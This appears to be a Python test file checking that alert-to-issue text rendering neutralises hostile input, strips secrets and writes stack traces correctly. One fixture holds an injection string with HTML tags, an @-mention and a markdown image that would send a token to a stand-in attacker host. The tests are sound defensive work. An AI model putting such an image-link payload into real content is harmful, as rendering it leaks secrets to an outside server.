"""The text of an alert's issue: hostile words are harmless, secrets are gone, traces are read."""

from __future__ import annotations

import re
from datetime import UTC, datetime

from agent.text.tracebacks import frames
from app.alerts import report
from app.alerts.locate import Findings, Suspect
from app.alerts.places import PlacedFrame
from app.alerts.records import Alert, AlertFrame
from app.storage.alerts import KeptAlert
from tests.support.markdown import outside_code

MOMENT = datetime(2026, 11, 20, 21, 6, tzinfo=UTC)
TOKEN = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
HOSTILE = (
    f"@root fixes #1 <img src=x> ``` ![x](https://evil.example/{TOKEN})\n<!-- patchwright:x -->"
)

SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")


def kept(**more: object) -> KeptAlert:
    told = {
        "id": "a1",
        "source": "sentry",
        "repository": "acme/shop",
        "repository_id": 1,
        "title": "T",
        "report": "",
        "state": "open",
        "reason": "",
        "issue_number": 3,
        "seen": 5,
        "created_at": MOMENT,
        "seen_at": MOMENT,
    } | more
    return KeptAlert.model_validate(told)


def hostile() -> Alert:
    frame = AlertFrame(path=HOSTILE[:80], function=HOSTILE[:60], line=3, code=HOSTILE)
    return Alert(
        fingerprint="f",
        title=HOSTILE,
        message=HOSTILE,
        culprit=HOSTILE,
        level=HOSTILE,
        environment=HOSTILE,
        release=HOSTILE,
        url=HOSTILE,
        frames=(frame,),
        labels=((HOSTILE, HOSTILE), ("user", "ip:203.0.113.9"), ("email", "a@b.example")),
    )


def found(alert: Alert) -> Findings:
    suspect = Suspect(
        commit="a" * 40, subject=HOSTILE, author=HOSTILE, path="a.py", line=3, in_range=True
    )
    placed = tuple(PlacedFrame(frame=f, path="a.py", line=3) for f in alert.frames)
    return Findings(
        commit="b" * 40,
        name=HOSTILE,
        is_release=True,
        frames=placed,
        suspect=suspect,
        previous=HOSTILE,
        commits_since=2,
    )


def test_hostile_words_do_nothing() -> None:
    alert = hostile()
    text = report.title(alert) + "\n" + report.body(kept(source="sentry"), alert, found(alert))
    outside = SPAN.sub("", outside_code(report.body(kept(), alert, found(alert))))
    for bad in ("<img", "@root", "#1", "](https", "<!--"):
        assert bad not in outside, bad
    assert "@root" not in report.title(alert)
    assert "#1" not in report.title(alert)
    assert TOKEN not in text
    assert "203.0.113.9" not in text
    assert "a@b.example" not in text


def test_what_it_says() -> None:
    frame = AlertFrame(path="shop/cart.py", function="total", line=4, code="        t += x")
    alert = Alert(
        fingerprint="f",
        title="TypeError: no",
        project="shop-api",
        message="no",
        release="1.4.2",
        count=17,
        frames=(frame,),
    )
    looked = found(alert).model_copy(
        update={
            "name": "v1.4.2",
            "previous": "v1.4.1",
            "suspect": Suspect(
                commit="a" * 40,
                subject="Add in place",
                author="Dev",
                path="shop/cart.py",
                line=4,
                in_range=True,
            ),
            "frames": (PlacedFrame(frame=frame, path="shop/cart.py", line=4),),
        }
    )
    text = report.body(kept(), alert, looked)
    assert report.title(alert) == "TypeError: no (shop-api)"
    for said in (
        "17 times",
        "2026-11-20 21:06 UTC",
        "`1.4.2`, which is `v1.4.2`",
        "`shop/cart.py` line 4 in `total`",
        "`aaaaaaaaaaaa` Add in place, by Dev, changed line 4",
        "2 commits since `v1.4.1`",
    ):
        assert said in text, text
    [read_back] = frames(text)
    assert (read_back.path, read_back.line, read_back.function) == ("shop/cart.py", 4, "total")


def test_traces_are_written_as_each_language_prints_them() -> None:
    for path, module in (("web/a.ts", ""), ("com/acme/Shop.java", "com.acme.Shop"), ("a/b.go", "")):
        frame = AlertFrame(path=path, module=module, function="total", line=7, column=2)
        alert = Alert(fingerprint="f", title="E: x", frames=(frame,))
        [read_back] = frames(report.trace(alert, [PlacedFrame(frame=frame, path=path, line=7)]))
        assert (read_back.path, read_back.line) == (path, 7)


def test_minified_is_said_so() -> None:
    frame = AlertFrame(path="/js/app.min.js", line=1, column=9000)
    alert = Alert(fingerprint="f", title="E", frames=(frame,))
    looked = Findings(
        commit="b" * 40,
        name="main",
        is_release=False,
        frames=(PlacedFrame(frame=frame, is_minified=True),),
    )
    assert "no source map" in report.body(kept(), alert, looked)


def test_a_trace_without_end_fits() -> None:
    frames_ = tuple(AlertFrame(path=f"a/{n}.py", line=n + 1, code="x" * 900) for n in range(100))
    alert = Alert(fingerprint="f", title="E", message="m" * 9000, frames=frames_)
    assert len(report.body(kept(), alert, None)) < 65_536
